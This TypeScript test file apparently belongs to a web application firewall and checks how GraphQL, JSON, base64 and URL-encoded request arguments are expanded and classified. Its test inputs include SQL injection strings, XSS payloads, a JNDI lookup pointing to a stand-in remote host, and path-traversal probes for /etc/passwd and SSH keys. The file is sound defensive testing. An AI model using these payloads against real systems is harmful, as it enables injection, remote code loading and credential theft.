import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import fc from 'fast-check';
import { RE2JS } from 're2js';
import { parseJsonBody } from '../body/json.ts';
import { parseUrlEncoded } from '../engine.ts';
import {
  DECODE_LIMIT_ARG,
  DEFAULT_EXPAND_OPTIONS,
  expandApiArgs,
  FORGED_PREFIX,
  fieldExclusionRegexes,
  graphqlGetQuery,
  JSON_KEY_PREFIX,
  JSON_PLAIN_NAME_REGEX,
  jsonKeyArgs,
  queryArgsView,
} from './expand.ts';

const flat = (body: unknown): [string, string][] => {
  const r = parseJsonBody(Buffer.from(JSON.stringify(body), 'utf8').toString('latin1'), {
    expand: (args) => expandApiArgs(args),
  });
  assert.ok(r.ok);
  return r.args.map(([k, v]) => [k, v]);
};
const names = (args: readonly (readonly [string, string])[]): string[] => args.map(([k]) => k);
const value = (args: readonly (readonly [string, string])[], name: string): string | undefined =>
  args.find(([k]) => k === name)?.[1];

describe('expandApiArgs: GraphQL', () => {
  test('the query document is replaced by its string literals and comments; variables stay separate', () => {
    const args = flat({
      query:
        '# pick fields\nquery Q($id: ID!) { user(id: $id, note: "select committee") { bio(f: """x\ny""") } }',
      variables: { id: "1' OR '1'='1" },
      operationName: 'Q',
    });
    assert.deepEqual(names(args), [
      'json.query.string.0',
      'json.query.string.1',
      'json.query.comment.0',
      'json.variables.id',
      'json.operationName',
    ]);
    assert.equal(value(args, 'json.query.string.0'), 'select committee');
    assert.equal(value(args, 'json.query.string.1'), 'x\ny');
    assert.equal(value(args, 'json.query.comment.0'), ' pick fields');
    assert.equal(value(args, 'json.variables.id'), "1' OR '1'='1");
  });

  test('batched requests are expanded per element', () => {
    const args = flat([{ query: '{ a(x: "one") }' }, { query: '{ b(y: "two") }' }]);
    assert.equal(value(args, 'json.0.query.string.0'), 'one');
    assert.equal(value(args, 'json.1.query.string.0'), 'two');
  });

  test('a query that is not GraphQL, or an object that is not a GraphQL request, stays one argument', () => {
    const notGraphql = "1' UNION SELECT password FROM users--";
    assert.equal(value(flat({ query: notGraphql }), 'json.query'), notGraphql);
    // A REST body with a `query` member next to other members is not a GraphQL request.
    assert.equal(value(flat({ query: '{ a }', page: 2 }), 'json.query'), '{ a }');
    // Type-system documents are not requests: kept whole.
    assert.equal(
      value(flat({ query: 'union select = password | users' }), 'json.query'),
      'union select = password | users',
    );
  });

  test('non-ASCII literals come out as UTF-8 bytes', () => {
    const args = flat({ query: '{ a(x: "Zürich") }' });
    assert.equal(value(args, 'json.query.string.0'), Buffer.from('Zürich', 'utf8').toString('latin1'));
  });
});

describe('expandApiArgs: nested encodings', () => {
  test('JSON inside a string is flattened under <name>.decoded-json', () => {
    const args = flat({ payload: JSON.stringify({ search: "' OR 1=1--", n: [1, { __proto__x: 2 }] }) });
    assert.equal(value(args, 'json.payload.decoded-json.search'), "' OR 1=1--");
    assert.equal(value(args, 'json.payload.decoded-json.n.1.__proto__x'), '2');
  });

  test('base64 of printable text is decoded, recursively (base64 of JSON)', () => {
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (attack payload or code sample)
    const inner = JSON.stringify({ q: '${jndi:ldap://x.example/a}' });
    const args = flat({ data: Buffer.from(inner).toString('base64') });
    assert.equal(value(args, 'json.data.decoded-base64'), inner);
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (attack payload or code sample)
    assert.equal(value(args, 'json.data.decoded-base64.decoded-json.q'), '${jndi:ldap://x.example/a}');
  });

  test('base64 of binary data and ordinary words are not decoded', () => {
    const binary = Buffer.from(Array.from({ length: 64 }, (_, i) => (i * 37 + 11) % 256)).toString('base64');
    const args = flat({ avatar: binary, word: 'internationalization' });
    assert.deepEqual(names(args), ['json.avatar', 'json.word']);
  });

  test('base64-looking words that decode to invalid UTF-8 are not decoded; valid UTF-8 text is', () => {
    // `sku-1000` / `cust-4711` are valid URL-safe base64 of bytes that are not UTF-8.
    assert.equal(Buffer.from('sku-1000', 'base64').length, 6);
    const args = flat({
      sku: 'sku-1000',
      customer: 'cust-4711',
      bad: Buffer.from([0xc3, 0x28, 0x41, 0x42, 0x43]).toString('base64'),
    });
    assert.deepEqual(names(args), ['json.sku', 'json.customer', 'json.bad']);
    const text = Buffer.from('\u00e9t\u00e9 select 1', 'utf8').toString('base64');
    assert.equal(
      value(flat({ v: text }), 'json.v.decoded-base64'),
      Buffer.from('\u00e9t\u00e9 select 1', 'utf8').toString('latin1'),
    );
  });

  test('percent-encoding, double percent-encoding', () => {
    const args = flat({ next: encodeURIComponent(encodeURIComponent('../../etc/passwd')) });
    assert.equal(value(args, 'json.next.decoded-url'), '..%2F..%2Fetc%2Fpasswd');
    assert.equal(value(args, 'json.next.decoded-url.decoded-url'), '../../etc/passwd');
  });

  test('rich text whose percent-escapes are all in link URLs is not percent-decoded; escapes in its text are', () => {
    const link = '<p><a href="mailto:press@example.com?subject=Press%20inquiry">press</a> or call us</p>';
    assert.ok(!names(flat({ html: link })).some((n) => n.includes('decoded-url')));
    const hidden = '<p>Hello %3Cscript%3Ealert(1)%3C/script%3E</p>';
    assert.equal(
      value(flat({ html: hidden }), 'json.html.decoded-url'),
      '<p>Hello <script>alert(1)</script></p>',
    );
    const handler = '<a href="/a%20b" onclick="x()">a</a>';
    assert.equal(
      value(flat({ html: handler }), 'json.html.decoded-url'),
      '<a href="/a b" onclick="x()">a</a>',
    );
  });

  test('depth is bounded', () => {
    let v = 'payload-text';
    for (let i = 0; i < 6; i++) v = Buffer.from(v).toString('base64');
    const r = expandApiArgs([['json.x', v]], { ...DEFAULT_EXPAND_OPTIONS, maxDepth: 2 });
    // Two decoded levels, and the flag that more base64 was left undecoded (session 8: four layers hid a payload).
    assert.equal(r.length, 4);
    assert.deepEqual(r.at(-1), [DECODE_LIMIT_ARG, 'depth']);
    let w = 'plain words';
    for (let i = 0; i < 2; i++) w = Buffer.from(w).toString('base64');
    assert.ok(
      !expandApiArgs([['json.x', w]], { ...DEFAULT_EXPAND_OPTIONS, maxDepth: 2 }).some(
        ([k]) => k === DECODE_LIMIT_ARG,
      ),
    );
    assert.equal(expandApiArgs([['json.x', v]], { ...DEFAULT_EXPAND_OPTIONS, maxDepth: 0 }).length, 1);
  });

  test('an exhausted budget adds the decode-limit argument', () => {
    const enc = Buffer.from('a harmless sentence').toString('base64');
    const args: [string, string][] = Array.from({ length: 20 }, (_, i) => [`json.v${i}`, enc]);
    const r = expandApiArgs(args, { ...DEFAULT_EXPAND_OPTIONS, maxExtraArgs: 5 });
    assert.equal(r.filter(([k]) => k.endsWith('.decoded-base64')).length, 5);
    assert.deepEqual(r.at(-1), [DECODE_LIMIT_ARG, 'args']);
    const rb = expandApiArgs(args, { ...DEFAULT_EXPAND_OPTIONS, maxDecodedBytes: 100 });
    assert.deepEqual(rb.at(-1), [DECODE_LIMIT_ARG, 'bytes']);
  });
});

describe('expandApiArgs: value view', () => {
  const utf8 = (s: string): string => Buffer.from(s, 'utf8').toString('latin1');

  test('natural-language values are renamed gatehouse.prose.<families>:<name>; others keep their name', () => {
    const args = flat({
      note: 'Windows users: open C:\\Program Files\\Acme and run setup.exe.',
      bio: '<img src=x onerror=alert(1)>',
      sku: 'SKU-1234',
      items: [{ text: 'Does the alert() in the docs example still work?' }],
    });
    assert.deepEqual(names(args), [
      'gatehouse.prose.lpx:json.note',
      'json.bio',
      'json.sku',
      'gatehouse.prose.flpsx:json.items.0.text',
      'json.items',
    ]);
    assert.equal(value(args, 'json.bio'), '<img src=x onerror=alert(1)>');
  });

  test('a value repeated in several fields gets the same name treatment in each (classification is shared)', () => {
    const prose = 'Does the alert() in the docs example still work?';
    const args = flat({
      a: prose,
      b: 'x',
      c: prose,
      d: '<img src=x onerror=alert(1)> and more words here',
      e: prose,
    });
    assert.deepEqual(names(args), [
      'gatehouse.prose.flpsx:json.a',
      'json.b',
      'gatehouse.prose.flpsx:json.c',
      'json.d',
      'gatehouse.prose.flpsx:json.e',
    ]);
  });

  test('proseView: false keeps every name', () => {
    const r = expandApiArgs([['json.q', 'Does the alert() in the docs example still work?']], {
      ...DEFAULT_EXPAND_OPTIONS,
      proseView: false,
    });
    assert.deepEqual(names(r), ['json.q']);
  });

  test('GraphQL over GET: prose literals and variables keep the query families only (session 9)', () => {
    assert.equal(
      graphqlGetQuery([['query', '{ a(x: "Does the alert() in the docs still work?") }']]),
      'gatehouse.prose.lsx%3Aquery.string.0=Does%20the%20alert%28%29%20in%20the%20docs%20still%20work%3F',
    );
    const vars = JSON.stringify({
      // Prose families outside the query ones (`f`: a function name in prose) are dropped, not renamed.
      a: 'Please quote (incl. VAT) for three units by Friday',
      b: 'x',
      // A fenced block in a document field: its prose is renamed, the block keeps every rule.
      body: 'Try this:\n```\nrm -rf dist && npm ci\n```\nand tell me if it helps.',
    });
    const q = graphqlGetQuery([
      ['query', 'query Q($a: String) { a(s: $a) }'],
      ['variables', vars],
    ]);
    const got = (q ?? '').split('&').map((p) => decodeURIComponent(p.slice(0, p.indexOf('='))));
    assert.ok(!got.some((n) => /^gatehouse[.]prose[.][a-z]*[^cegloqsx:][a-z]*:/.test(n)), got.join(' '));
    assert.ok(got.includes('variables.b'), got.join(' '));
    assert.ok(got.includes('variables.body.fenced-code'), got.join(' '));
    assert.ok(!got.includes('variables.a') || got.some((n) => n.endsWith(':variables.a')), got.join(' '));
  });

  test('values are seen in their canonical form, decoded content too', () => {
    const args = flat({
      note: '請放在管理室，謝謝。',
      enc: Buffer.from('管理室，謝謝 ＜ｓｃｒｉｐｔ＞').toString('base64'),
    });
    assert.equal(value(args, 'json.note'), 'xxxxxx,xx.');
    assert.equal(value(args, 'json.enc.decoded-base64'), 'xxx,xx <script>');
    assert.equal(value(flat({ city: 'Zürich' }), 'json.city'), utf8('Zürich'));
  });

  test('inline binary images are summarised; a text payload under a data: URL is decoded', () => {
    const png = Buffer.from(Array.from({ length: 64 }, (_, i) => (i * 37 + 11) % 256)).toString('base64');
    assert.deepEqual(flat({ avatar: `data:image/png;base64,${png}` }), [
      ['json.avatar', '[image/png data, 64 bytes]'],
    ]);
    const html = `data:text/html;base64,${Buffer.from('<script>alert(1)</script>').toString('base64')}`;
    const args = flat({ avatar: html });
    assert.equal(value(args, 'json.avatar'), html);
    assert.equal(value(args, 'json.avatar.decoded-base64'), '<script>alert(1)</script>');
  });
});

describe('JSON member names: the plain-name exemption and the raw-key view', () => {
  const plain = RE2JS.compile(JSON_PLAIN_NAME_REGEX, RE2JS.CASE_INSENSITIVE);
  const withKeys = (body: unknown): [string, string][] => {
    const r = parseJsonBody(Buffer.from(JSON.stringify(body), 'utf8').toString('latin1'), {
      expand: (args, keys) => expandApiArgs(args, DEFAULT_EXPAND_OPTIONS, keys),
    });
    assert.ok(r.ok);
    return r.args.map(([k, v]) => [k, v]);
  };

  test('plain dotted names (also prose and derived ones) are exempt; an empty segment or path syntax is not', () => {
    for (const n of [
      'json.coverage',
      'json.credentials.type',
      'json.items.0.vscode',
      'json.Web.Config',
      'gatehouse.prose.lx:json.description',
      'json.body.decoded-json.secrets',
      'json.message.markdown-text',
      'json.query.string.0',
    ])
      assert.ok(plain.matcher(n).find(), n);
    for (const n of [
      'json..env',
      'json.a..git/config',
      'json.../../../etc/passwd',
      'json./etc/shadow',
      'json.items.0..ssh/id_rsa',
      'json.a\\b',
      'json.%2e%2e%2fetc%2fpasswd',
      'json.c:',
      'json.x\xc3\xa9',
      'json.',
      'json',
      'q',
      'xjson.coverage',
      'gatehouse.json-key:web.config',
      'gatehouse.prose.l:q',
      'json.a\nb',
    ])
      assert.ok(!plain.matcher(n).find(), n);
  });

  test('the raw-key view shows each plain member name that could name a file, once', () => {
    assert.deepEqual(jsonKeyArgs(new Set(['coverage', 'web.config', '.env', 'a/b', 'wp-config_', 'x..y'])), [
      [`${JSON_KEY_PREFIX}web.config`, ''],
      // A name that is no identifier is shown as itself.
      ['a/b', ''],
      [`${JSON_KEY_PREFIX}wp-config_`, ''],
    ]);
    const args = withKeys({ a: { 'web.config': 1 }, b: [{ 'web.config': 2, coverage: 3 }] });
    assert.deepEqual(
      args.filter(([k]) => k.startsWith(JSON_KEY_PREFIX)),
      [[`${JSON_KEY_PREFIX}web.config`, '']],
    );
    // Member names of JSON decoded from a string value are shown too.
    const nested = withKeys({ doc: JSON.stringify({ settings: { 'boot.ini': true } }) });
    assert.ok(names(nested).includes(`${JSON_KEY_PREFIX}boot.ini`), names(nested).join(' '));
    // No keys (GraphQL over GET, older callers): no raw-key view.
    assert.deepEqual(names(expandApiArgs([['json.web.config', '1']])), ['json.web.config']);
  });
});

describe('fieldExclusionRegexes', () => {
  const matches = (paths: string[], name: string): boolean =>
    fieldExclusionRegexes(paths).some((re) => RE2JS.compile(re, RE2JS.CASE_INSENSITIVE).matcher(name).find());

  test('dotted paths, body. prefix, [] and *, children and decoded derivations', () => {
    assert.ok(matches(['body.description'], 'json.description'));
    assert.ok(matches(['description'], 'json.description.decoded-base64'));
    assert.ok(!matches(['body.description'], 'json.descriptionx'));
    assert.ok(matches(['comments[].text'], 'json.comments.3.text'));
    assert.ok(!matches(['comments[].text'], 'json.comments.text'));
    assert.ok(matches(['data.*.html'], 'json.data.attributes.html'));
    // Prose values keep their field: the renamed argument is excluded too.
    assert.ok(matches(['body.description'], 'gatehouse.prose.lx:json.description'));
    assert.ok(!matches(['body.description'], 'gatehouse.prose.lx:json.title'));
    assert.ok(matches(['variables.input.body'], 'json.variables.input.body'));
    for (const re of fieldExclusionRegexes(['a[].b', '*.c', 'x$y'])) assert.doesNotMatch(re, /\|/);
  });

  test('paths outside the grammar are refused', () => {
    assert.throws(() => fieldExclusionRegexes(['a..b']), TypeError);
    assert.throws(() => fieldExclusionRegexes(['a/b']), TypeError);
  });
});

describe('graphqlGetQuery: decode limit', () => {
  test('the decode-limit flag keeps its name in the rewritten query string', () => {
    const enc = Buffer.from('a harmless sentence').toString('base64');
    const q = graphqlGetQuery([['query', `{ a(x: "${enc}", y: "${enc}") }`]], {
      ...DEFAULT_EXPAND_OPTIONS,
      maxExtraArgs: 1,
    });
    assert.ok(q?.endsWith(`&${DECODE_LIMIT_ARG}=args`), q ?? 'null');
  });
});

describe('graphqlGetQuery', () => {
  test('query literals and flattened variables replace the GraphQL parameters', () => {
    const q = graphqlGetQuery([
      ['query', 'query S($t: String) { search(q: $t, note: "a & b") { id } } # hi'],
      ['variables', '{"t":"union of workers","n":[1]}'],
      ['operationName', 'S'],
    ]);
    assert.equal(
      q,
      'query.string.0=a%20%26%20b&query.comment.0=%20hi&variables.t=union%20of%20workers&variables.n.0=1&operationName=S',
    );
  });

  test('not a GraphQL request: null (inspected unchanged)', () => {
    assert.equal(graphqlGetQuery([['q', 'x']]), null);
    assert.equal(
      graphqlGetQuery([
        ['query', '{ a }'],
        ['page', '2'],
      ]),
      null,
    );
    assert.equal(graphqlGetQuery([['query', "1' OR '1'='1"]]), null);
    assert.equal(
      graphqlGetQuery([
        ['query', '{ a }'],
        ['query', '{ b }'],
      ]),
      null,
    );
  });
});

describe('queryArgsView', () => {
  test('a parameter named like a JSON body value (json.…, decoded, any case) is shown as query:<name>', () => {
    assert.equal(queryArgsView('json.a=1&b=2'), 'query:json.a=1&b=2');
    assert.equal(queryArgsView('b=2&JSON%2Ea=1'), 'b=2&query:JSON%2Ea=1');
    assert.equal(queryArgsView('jsonp=1&json=2'), 'jsonp=1&json=2');
    // Next to a forged reserved name, too.
    assert.equal(queryArgsView('gatehouse.x=1&json.a=2'), 'gatehouse.forged:gatehouse.x=1&query:json.a=2');
  });
  test('prose parameters are renamed, the others keep their raw bytes; nothing to change: the same string', () => {
    assert.equal(
      queryArgsView('q=%22program+files%22+windows+11&page=2'),
      'gatehouse.prose.lq:q=%22program+files%22+windows+11&page=2',
    );
    assert.equal(
      queryArgsView('q=alert()%20vs%20console.log'),
      'gatehouse.prose.lx:q=alert()%20vs%20console.log',
    );
    // Prose on which none of the waived rules could fire keeps its name (garden lantern).
    for (const q of [
      '',
      'page=2&sort=price_asc',
      'q=garden+lantern&category=outdoor',
      'q=alert(1)',
      'a&&b=&c',
      'q=%3Cscript%3Ealert(1)%3C/script%3E',
    ])
      assert.equal(queryArgsView(q), q);
  });

  test('values get the canonical form (re-encoded); a value with an invalid escape is left as it is', () => {
    assert.equal(queryArgsView('q=%E8%AB%8B%E6%94%BE%E5%9C%A8'), 'q=xxx');
    // Full-width markup folds to the ASCII the rules look for.
    assert.equal(queryArgsView('q=%EF%BC%9Cscript%EF%BC%9E'), 'q=<script>');
    assert.equal(queryArgsView('q=caf%C3%A9+%E2%80%A2+%25'), 'q=caf%C3%A9%20%20%20%25');
    assert.equal(queryArgsView('q=%E5%9C%A8%zz'), 'q=%E5%9C%A8%zz');
  });

  test('client names in the reserved namespace (any case, any encoding) are marked forged; nothing is classified', () => {
    for (const name of [
      'gatehouse.prose.lsx:f',
      'GATEHOUSE.PROSE.LSX:f',
      'gatehouse%2Eprose%2Elsx%3Af',
      'gatehouse.x',
    ]) {
      assert.equal(
        queryArgsView(`${name}=/etc/passwd&q=alert()+in+the+docs`),
        `${FORGED_PREFIX}${name}=/etc/passwd&q=alert()+in+the+docs`,
      );
    }
  });

  test('property: a name the view gives the prose form is never a client name in the reserved namespace', () => {
    const piece = fc.constantFrom(
      'gatehouse.',
      'GateHouse.',
      'gatehouse%2e',
      'prose.',
      'lsx:',
      'x:',
      'q',
      '=',
      '&',
      '+',
      '%20',
      'alert()',
      'in',
      'the',
      'docs',
      'program',
      'files',
      '%E5%9C%A8',
      '%zz',
      ' ',
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 24 }), (ps) => {
        const query = ps.join('');
        const before = parseUrlEncoded(query);
        const after = parseUrlEncoded(queryArgsView(query));
        assert.equal(after.length, before.length);
        after.forEach(([name], i) => {
          const original = (before[i] as [string, string])[0];
          const reserved = original.toLowerCase().startsWith('gatehouse.');
          if (/^gatehouse[.]prose[.][a-z]*:/i.test(name)) {
            assert.ok(!reserved, `${query} → ${name}`);
            assert.equal(name.slice(name.indexOf(':') + 1), original);
          } else if (reserved) assert.equal(name, FORGED_PREFIX + original);
          else assert.equal(name, original);
        });
      }),
      { numRuns: 500 },
    );
  });
});
